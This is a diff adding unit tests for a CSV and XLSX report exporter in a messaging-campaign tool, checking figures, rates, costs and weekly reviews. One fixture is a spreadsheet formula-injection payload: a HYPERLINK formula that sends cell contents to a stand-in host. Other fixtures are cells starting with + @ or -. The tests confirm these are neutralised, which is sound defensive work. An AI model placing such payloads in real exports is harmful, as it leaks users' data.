@@ -1,0 +1,123 @@
+import * as XLSX from 'xlsx';
+import { describe, expect, it } from 'vitest';
+import { twoProportionTest } from '../../../../shared/domain/results/abTest';
+import { ratesOf, type Funnel } from '../../../../shared/domain/results/funnel';
+import type { CampaignReport, WeeklyReview } from '../../db/reports';
+import { campaignReportTables, reportCsvText, reportWorkbook, reportXlsxBytes, sheetName, weeklyReviewTables } from './exportReport';
+import { resultsWords } from './words';
+
+const w = resultsWords('en');
+const funnel: Funnel = { queued: 10, sent: 9, delivered: 7, read: 3, replied: 2, failed: 1, skipped: 0, optedOut: 1 };
+const EVIL = '=HYPERLINK("http://x.example/?"&A1,"click")';
+
+function report(over: Partial<CampaignReport> = {}): CampaignReport {
+  const a = { sent: 5, delivered: 4, read: 2, replied: 1, optedOut: 0 };
+  const b = { sent: 4, delivered: 3, read: 1, replied: 1, optedOut: 1 };
+  return {
+    id: 'c1',
+    name: EVIL,
+    channel: 'cloud',
+    state: 'finished',
+    sandbox: true,
+    test: false,
+    funnel,
+    rates: ratesOf(funnel),
+    avgFirstResponseMs: 90 * 60_000,
+    phases: {},
+    failures: [{ group: 'skip.quiet_hours', kind: 'skip', reason: 'quiet_hours', count: 1 }],
+    ab: { a: { ...a, rates: ratesOf(a) }, b: { ...b, rates: ratesOf(b) }, reply: twoProportionTest(1, 4, 1, 3), read: twoProportionTest(2, 4, 1, 3) },
+    cost: { total: 0.1234, byCountry: [{ country: 'KR', delivered: 7, rate: 0.0176, subtotal: 0.1234 }], currency: 'USD', asOf: '2026-01-01', category: 'MARKETING', billed: true, simulated: true },
+    daily: [{ day: '2026-11-23', sent: 9, delivered: 7, read: 3, replied: 2, failed: 1, optedOut: 1 }],
+    ...over,
+  };
+}
+
+const campaignWords = { w, failure: () => '+SUM(1,2)', country: (c: string) => (c === 'KR' ? 'South Korea' : c) };
+
+/** The CSV's lines as cells (the test data has no quoted commas except where noted). */
+const lines = (csv: string) => csv.replace(/^\ufeff/, '').split('\r\n');
+
+describe('campaign report export', () => {
+  it('writes the funnel figures, rates as fractions and the first response in minutes', () => {
+    const csv = reportCsvText(campaignReportTables(report(), campaignWords));
+    expect(csv.startsWith('\ufeff')).toBe(true);
+    const l = lines(csv);
+    for (const [step, count] of [['Queued', 10], ['Sent', 9], ['Delivered', 7], ['Read', 3], ['Replied (72 h)', 2], ['Failed', 1], ['Skipped', 0], ['Opted out', 1]] as const) {
+      expect(l, step).toContain(`${step},${count}`);
+    }
+    expect(l).toContain('Read rate,0.4286'); // 3 / 7
+    expect(l).toContain('Reply rate,0.2857'); // 2 / 7
+    expect(l).toContain('Average time to first reply (minutes),90');
+    expect(l).toContain('Would have cost on the Cloud API (USD),0.12');
+    expect(l).toContain('South Korea,7,0.0176,0.12');
+    expect(l).toContain('2026-11-23,9,7,3,2,1,1');
+    expect(l).toContain('A,4,0.5,0.25,0');
+    expect(l).toContain('B,3,0.3333,0.3333,1');
+  });
+
+  it('neutralises formula cells in the CSV: the campaign name and a reason that starts with + get a quote', () => {
+    const csv = reportCsvText(campaignReportTables(report(), campaignWords));
+    expect(csv).toContain(`"'=HYPERLINK(""http://x.example/?""&A1,""click"")"`);
+    expect(lines(csv)).toContain(`"'+SUM(1,2)",1`);
+    // Nothing in the file starts a cell with a bare formula character.
+    for (const line of lines(csv)) expect(line, line).not.toMatch(/(^|,)"?[=+@]/);
+  });
+
+  it('neutralises text cells in the XLSX and keeps figures as number cells', () => {
+    const book = XLSX.read(reportXlsxBytes(campaignReportTables(report(), campaignWords)), { type: 'array' });
+    const summary = book.Sheets[book.SheetNames[0]!]!;
+    const rows = XLSX.utils.sheet_to_json<unknown[]>(summary, { header: 1, raw: true });
+    expect(rows[0]).toEqual(['Campaign report', `'${EVIL}`]);
+    expect(rows).toContainEqual(['Campaign', `'${EVIL}`]);
+    expect(rows).toContainEqual(['Read rate', 0.4286]);
+    const funnelSheet = book.Sheets[book.SheetNames[1]!]!;
+    expect(funnelSheet.B3).toMatchObject({ t: 'n', v: 9 }); // header in row 1, Queued in 2, Sent in 3
+    expect(funnelSheet.B4).toMatchObject({ t: 'n', v: 7 });
+    for (const name of book.SheetNames) {
+      for (const [ref, cell] of Object.entries(book.Sheets[name]!)) {
+        if (ref.startsWith('!')) continue;
+        expect((cell as XLSX.CellObject).f, `${name}!${ref}`).toBeUndefined();
+        if ((cell as XLSX.CellObject).t === 's') expect(String((cell as XLSX.CellObject).v), `${name}!${ref}`).not.toMatch(/^[=+\-@]/);
+      }
+    }
+  });
+
+  it('says the cost was nothing on the Assisted channel and leaves out the A/B sections without version B', () => {
+    const r = report({ cost: { total: 0, byCountry: [], currency: 'USD', asOf: '2026-01-01', category: 'MARKETING', billed: false, simulated: false } });
+    delete r.ab;
+    const t = campaignReportTables(r, campaignWords);
+    expect(t.sections.map((s) => s.title)).not.toContain('Version A and version B');
+    expect(lines(reportCsvText(t))).toContain('Cost (USD),0');
+  });
+});
+
+describe('weekly review export', () => {
+  const review: WeeklyReview = {
+    zone: 'Asia/Seoul',
+    weeks: [
+      { weekStart: '2026-11-23', sent: 6, delivered: 6, readRate: 0.5, replyRate: null, optOuts: 0, newContacts: 6, replies: 0, avgFirstResponseMs: null },
+      { weekStart: '2026-11-16', sent: 0, delivered: 0, readRate: null, replyRate: null, optOuts: 1, newContacts: 0, replies: 2, avgFirstResponseMs: 30_000 },
+    ],
+    byLabel: [{ labelId: 1, name: '@VIP', color: undefined, sent: 6, delivered: 6, readRate: 0.5, replyRate: 0, optedOut: 0 }],
+    heatmap: { read: Array.from({ length: 168 }, (_, i) => (i === 24 + 9 ? 3 : 0)), reply: new Array<number>(168).fill(0) },
+    best: [{ id: 'c1', name: '-1+1', sandbox: true, test: false, sent: 6, delivered: 6, replied: 0, readRate: 0.5, replyRate: 0 }],
+  };
+
+  it('writes each week, the labels, the heatmap and the best campaigns, neutralised', () => {
+    const l = lines(reportCsvText(weeklyReviewTables(review, w)));
+    expect(l[0]).toBe('Weekly review,2026-11-16,2026-11-23');
+    expect(l).toContain('2026-11-23,6,6,0.5,,0,6,0,');
+    expect(l).toContain('2026-11-16,0,0,,,1,0,2,0.5');
+    expect(l).toContain("'@VIP,6,6,0.5,0,0");
+    expect(l).toContain("'-1+1,yes,6,6,0.5,0");
+    const tue = l.find((x) => x.startsWith('Tue,'));
+    expect(tue?.split(',')[1 + 9]).toBe('3'); // Tuesday 09:00
+  });
+
+  it('names the sheets within Excel’s rules', () => {
+    const taken = new Set<string>();
+    expect(sheetName('When customers read and reply (shop time): Reads', taken)).toBe('When customers read and reply (');
+    expect(sheetName('When customers read and reply (shop time): Replies', taken)).toBe('When customers read and reply 2');
+    expect(reportWorkbook(weeklyReviewTables(review, w)).SheetNames).toHaveLength(5);
+  });
+});
